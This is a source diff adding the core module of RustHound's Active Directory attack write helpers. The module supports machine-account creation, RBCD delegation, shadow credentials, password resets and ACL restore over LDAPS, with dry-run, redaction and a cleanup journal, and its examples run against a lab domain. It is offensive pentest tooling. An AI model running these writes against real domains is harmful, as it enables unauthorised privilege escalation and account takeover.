@@ -0,0 +1,320 @@
+//! Write helpers for the attack paths found in the collection
+//!
+//! The helpers keep the whole recon-to-abuse loop in one binary, they reuse the connection options of the
+//! collection (**-d**, **-u**, **-p**, **-i**, **-f**, **-k**...) given before the subcommand, always over LDAPS:
+//!
+//! - **computer**: create one machine account within the MachineAccountQuota (`rusthound add-computer`)
+//! - **rbcd**: allow one account to delegate to a computer with msDS-AllowedToActOnBehalfOfOtherIdentity (`rusthound set-rbcd`)
+//! - **keycredential**: add one shadow credential to msDS-KeyCredentialLink for PKINIT (`rusthound set-keycredential`)
+//! - **password**: reset or change the password of one user (`rusthound set-password`)
+//! - **acl**: save and restore the nTSecurityDescriptor of objects (`rusthound acl backup` / `rusthound acl restore`)
+//!
+//! Every write goes through [`write`]: with **--dry-run** the LDAP add or modify is only printed (DN, attribute,
+//! value as encoded and SDDL of the security descriptors), otherwise it is sent and recorded in the journal
+//! (**--journal**, `rusthound_journal.jsonl` in the output directory by default) with how to clean it up.
+//! Values of secret attributes (passwords, key credentials) are redacted in both.
+//!
+//! Example
+//!
+//! ```bash
+//! rusthound -d essos.local -u khal.drogo@essos.local -p horse -i 192.168.56.12 add-computer --name ATTACKER --computer-pass 'Summer2024!'
+//! rusthound -d essos.local -u khal.drogo@essos.local -p horse -i 192.168.56.12 set-rbcd --target 'BRAAVOS$' --grant 'ATTACKER$' --dry-run
+//! ```
+pub mod acl;
+pub mod computer;
+pub mod keycredential;
+pub mod password;
+pub mod rbcd;
+
+use colored::Colorize;
+use ldap3::controls::RawControl;
+use ldap3::exop::{WhoAmI, WhoAmIResp};
+use ldap3::{ldap_escape, LdapResult, Mod, Scope, SearchEntry};
+use log::info;
+
+use std::fs::{self, OpenOptions};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use crate::args::Options;
+use crate::enums::secdesc::to_sddl;
+use crate::enums::sid::Sid;
+use crate::errors::{Result, RustHoundError};
+use crate::ldap::{ldap_connect, prepare_ldap_dc};
+
+/// Default journal of the writes sent, in the output directory
+pub const JOURNAL_FILE: &str = "rusthound_journal.jsonl";
+/// LDAP_SERVER_SD_FLAGS_OID
+pub const SD_FLAGS_OID: &str = "1.2.840.113556.1.4.801";
+/// Attributes whose values are security descriptors, rendered as SDDL
+const SECURITY_DESCRIPTOR_ATTRIBUTES: [&str; 2] = ["nTSecurityDescriptor", "msDS-AllowedToActOnBehalfOfOtherIdentity"];
+/// Attributes whose values are secrets, redacted in the dry-run output and in the journal
+const SECRET_ATTRIBUTES: [&str; 4] = ["unicodePwd", "userPassword", "unixUserPassword", "msDS-KeyCredentialLink"];
+
+/// One LDAP add or modify of the write helpers.
+#[derive(Clone, Debug)]
+pub struct WriteOperation {
+   /// Entry added with the Mod::Add values, modified otherwise
+   pub add: bool,
+   pub dn: String,
+   pub mods: Vec<Mod<Vec<u8>>>,
+   /// LDAP_SERVER_SD_FLAGS_OID flags of the nTSecurityDescriptor written
+   pub sd_flags: Option<u8>,
+   /// How to revert the write, recorded in the journal
+   pub cleanup: String,
+}
+
+/// Function to make the LDAP_SERVER_SD_FLAGS_OID control of the parts of the descriptor read or written.
+pub fn sd_flags_control(flags: u8) -> RawControl
+{
+   RawControl {
+      ctype: String::from(SD_FLAGS_OID),
+      crit: true,
+      val: Some(vec![48, 3, 2, 1, flags]),
+   }
+}
+
+/// Function to render one value as sent: text if printable, hex otherwise. Secrets are redacted, only their size is kept.
+fn render_value(attribute: &str, value: &[u8]) -> String
+{
+   if SECRET_ATTRIBUTES.iter().any(|name| name.eq_ignore_ascii_case(attribute)) {
+      return format!("<redacted, {} bytes>", value.len())
+   }
+   let binary = SECURITY_DESCRIPTOR_ATTRIBUTES.iter().any(|name| name.eq_ignore_ascii_case(attribute));
+   match std::str::from_utf8(value) {
+      Ok(text) if !binary && !text.chars().any(|c| c.is_control()) => text.to_string(),
+      _ => value.iter().map(|b| format!("{:02x}", b)).collect(),
+   }
+}
+
+/// Function to describe the changes of one write: operation, attribute, values and SDDL of the security descriptors.
+pub fn describe_mods(mods: &[Mod<Vec<u8>>]) -> Vec<serde_json::value::Value>
+{
+   mods.iter().filter_map(|modification| {
+      let (operation, attribute, values) = match modification {
+         Mod::Add(attribute, values) => ("add", attribute, values),
+         Mod::Replace(attribute, values) => ("replace", attribute, values),
+         Mod::Delete(attribute, values) => ("delete", attribute, values),
+         Mod::Increment(..) => return None,
+      };
+      let attribute = String::from_utf8_lossy(attribute).to_string();
+      let mut values = values.iter().collect::<Vec<&Vec<u8>>>();
+      values.sort();
+      let mut change = serde_json::json!({
+         "operation": operation,
+         "attribute": attribute,
+         "values": values.iter().map(|value| render_value(&attribute, value)).collect::<Vec<String>>(),
+      });
+      if SECURITY_DESCRIPTOR_ATTRIBUTES.iter().any(|name| name.eq_ignore_ascii_case(&attribute)) {
+         change["sddl"] = values.iter().map(|value| to_sddl(value).unwrap_or_else(|err| err)).collect::<Vec<String>>().into();
+      }
+      Some(change)
+   }).collect()
+}
+
+/// Function to get the journal of the writes sent, from --journal or in the output directory.
+pub fn get_journal_path(common_args: &Options) -> PathBuf
+{
+   match common_args.journal.contains("not set") {
+      true => Path::new(&common_args.path).join(JOURNAL_FILE),
+      false => PathBuf::from(&common_args.journal),
+   }
+}
+
+/// Function to append one write sent to the journal, to clean the changes up after the engagement.
+fn record_operation(common_args: &Options, operation: &WriteOperation) -> Result<()>
+{
+   let path = get_journal_path(common_args);
+   if let Some(parent) = path.parent() {
+      fs::create_dir_all(parent)?;
+   }
+   let record = serde_json::json!({
+      "date": chrono::Utc::now().to_rfc3339(),
+      "domain": common_args.domain.to_uppercase(),
+      "user": common_args.username,
+      "operation": if operation.add { "add" } else { "modify" },
+      "dn": operation.dn,
+      "changes": describe_mods(&operation.mods),
+      "cleanup": operation.cleanup,
+   });
+   let mut journal = OpenOptions::new().create(true).append(true).open(&path)?;
+   writeln!(journal, "{}", record)?;
+   info!("Change recorded in {}", path.display());
+   Ok(())
+}
+
+/// Function to make the lines printed by --dry-run for one write, secrets redacted.
+pub fn format_dry_run(operation: &WriteOperation) -> Vec<String>
+{
+   let mut lines = vec![format!("{} {}", if operation.add { "add" } else { "modify" }, operation.dn)];
+   if let Some(flags) = operation.sd_flags {
+      lines.push(format!("  control {} flags {:#04x}", SD_FLAGS_OID, flags));
+   }
+   for change in describe_mods(&operation.mods) {
+      let (kind, attribute) = (change["operation"].as_str().unwrap_or(""), change["attribute"].as_str().unwrap_or(""));
+      for value in change["values"].as_array().map(|values| values.as_slice()).unwrap_or(&[]) {
+         lines.push(format!("  {} {}: {}", kind, attribute, value.as_str().unwrap_or("")));
+      }
+      for sddl in change["sddl"].as_array().map(|values| values.as_slice()).unwrap_or(&[]) {
+         lines.push(format!("  {} {} SDDL: {}", kind, attribute, sddl.as_str().unwrap_or("")));
+      }
+   }
+   lines
+}
+
+/// Function to send one write of the helpers and record it in the journal, or only print it with --dry-run.
+pub async fn write(ldap: &mut ldap3::Ldap, common_args: &Options, operation: &WriteOperation) -> Result<()>
+{
+   if common_args.dry_run {
+      for line in format_dry_run(operation) {
+         info!("{} {}", "[dry-run]".yellow(), line);
+      }
+      return Ok(())
+   }
+
+   let res = match operation.add {
+      true => {
+         let attributes = operation.mods.iter()
+            .filter_map(|modification| match modification {
+               Mod::Add(attribute, values) => Some((attribute.to_owned(), values.to_owned())),
+               _ => None,
+            })
+            .collect::<Vec<_>>();
+         ldap.add(&operation.dn, attributes).await?
+      },
+      false => {
+         if let Some(flags) = operation.sd_flags {
+            ldap.with_controls(sd_flags_control(flags));
+         }
+         ldap.modify(&operation.dn, operation.mods.to_owned()).await?
+      },
+   };
+   check_result(&operation.dn, res)?;
+   record_operation(common_args, operation)
+}
+
+/// Function to open the LDAPS connection of the write helpers with the collection options.
+pub async fn connect(common_args: &Options) -> Result<ldap3::Ldap>
+{
+   if common_args.domain.contains("not set") {
+      return Err(RustHoundError::AuthError {
+         domain: common_args.domain.to_owned(),
+         reason: "the domain is needed by the write helpers, set it with -d before the subcommand".to_string(),
+      })
+   }
+   ldap_connect(
+      &common_args.ip,
+      &common_args.port,
+      &common_args.domain,
+      &common_args.ldapfqdn,
+      &common_args.username,
+      &common_args.password,
+      common_args.kerberos,
+      common_args.timeout,
+   ).await
+}
+
+/// Function to get the distinguished name of the domain naming context.
+pub fn get_domain_dn(domain: &String) -> String
+{
+   prepare_ldap_dc(domain, false)[0].to_owned()
+}
+
+/// Function to check the result of one add, modify or delete request.
+pub fn check_result(dn: &str, result: LdapResult) -> Result<()>
+{
+   if result.rc != 0 {
+      return Err(RustHoundError::WriteError {
+         dn: dn.to_string(),
+         reason: format!("rc={} {}", result.rc, result.text),
+      })
+   }
+   Ok(())
+}
+
+/// Function to get the sAMAccountName of the bound user with the LDAP Who am I? extended operation.
+/// The authorization identity is like `u:ESSOS\khal.drogo`.
+pub async fn whoami(ldap: &mut ldap3::Ldap) -> Result<String>
+{
+   let (exop, _res) = ldap.extended(WhoAmI).await?.success()?;
+   let whoami: WhoAmIResp = exop.parse();
+   let identity = whoami.authzid.trim_start_matches("u:");
+   Ok(identity.rsplit('\\').next().unwrap_or(identity).to_string())
+}
+
+/// Function to find one account by sAMAccountName, the `$` of machine accounts is added if missing.
+pub async fn find_account(
+   ldap: &mut ldap3::Ldap,
+   domain_dn: &String,
+   samaccountname: &String,
+   attributes: Vec<&str>,
+) -> Result<SearchEntry>
+{
+   let filter = format!("(|(sAMAccountName={})(sAMAccountName={}$))", ldap_escape(samaccountname.as_str()), ldap_escape(samaccountname.trim_end_matches('$')));
+   let (entries, _res) = ldap.search(domain_dn, Scope::Subtree, &filter, attributes).await?.success()?;
+   entries.into_iter()
+      .map(SearchEntry::construct)
+      .next()
+      .ok_or(RustHoundError::WriteError {
+         dn: samaccountname.to_owned(),
+         reason: format!("no account {} in {}", samaccountname, domain_dn),
+      })
+}
+
+/// Function to get the objectSid of one account found with [`find_account`].
+/// SIDs with only ASCII bytes are in the text attributes.
+pub fn get_object_sid(entry: &SearchEntry) -> Option<Sid>
+{
+   let raw_sid = match entry.bin_attrs.get("objectSid").and_then(|values| values.first()) {
+      Some(raw_sid) => raw_sid.to_owned(),
+      None => entry.attrs.get("objectSid")?.first()?.as_bytes().to_vec(),
+   };
+   Sid::from_bytes(&raw_sid).ok()
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_describe_mods() {
+   use crate::enums::secdesc::{serialize_security_descriptor, SimpleAce};
+   use std::str::FromStr;
+
+   let attacker = Sid::from_str("S-1-5-21-1-2-3-1105").unwrap();
+   let nt = serialize_security_descriptor(None, None, &[SimpleAce::allowed(0x000F01FF, attacker)]);
+   let mods = vec![
+      Mod::Replace(b"msDS-AllowedToActOnBehalfOfOtherIdentity".to_vec(), vec![nt.to_owned()].into_iter().collect()),
+      Mod::Replace(b"unicodePwd".to_vec(), vec![vec![0x22, 0x00, 0x22, 0x00]].into_iter().collect()),
+      Mod::Add(b"dNSHostName".to_vec(), vec![b"attacker.essos.local".to_vec()].into_iter().collect()),
+   ];
+
+   let changes = describe_mods(&mods);
+   assert_eq!(changes[0]["operation"], "replace");
+   assert_eq!(changes[0]["values"][0], nt.iter().map(|b| format!("{:02x}", b)).collect::<String>());
+   assert_eq!(changes[0]["sddl"][0], "D:(A;;0x000f01ff;;;S-1-5-21-1-2-3-1105)");
+   assert_eq!(changes[1]["values"][0], "<redacted, 4 bytes>");
+   assert_eq!(changes[2]["values"][0], "attacker.essos.local");
+   assert!(changes[2]["sddl"].is_null());
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_format_dry_run() {
+   use crate::attack::password::prepare_password_mods;
+
+   let operation = WriteOperation {
+      add: false,
+      dn: "CN=jorah.mormont,CN=Users,DC=essos,DC=local".to_string(),
+      mods: prepare_password_mods("Winter2024!", Some("Summer2024!")),
+      sd_flags: None,
+      cleanup: String::new(),
+   };
+   let output = format_dry_run(&operation).join("\n");
+   assert!(output.starts_with("modify CN=jorah.mormont,CN=Users,DC=essos,DC=local"));
+   assert!(output.contains("delete unicodePwd: <redacted, 26 bytes>"));
+   assert!(output.contains("add unicodePwd: <redacted, 26 bytes>"));
+   for password in ["Winter2024!", "Summer2024!"] {
+      let encoded = crate::attack::computer::encode_unicode_pwd(password);
+      assert!(!output.contains(password));
+      assert!(!output.contains(&encoded.iter().map(|b| format!("{:02x}", b)).collect::<String>()));
+      assert!(!output.contains(&String::from_utf8_lossy(&encoded).to_string()));
+   }
+}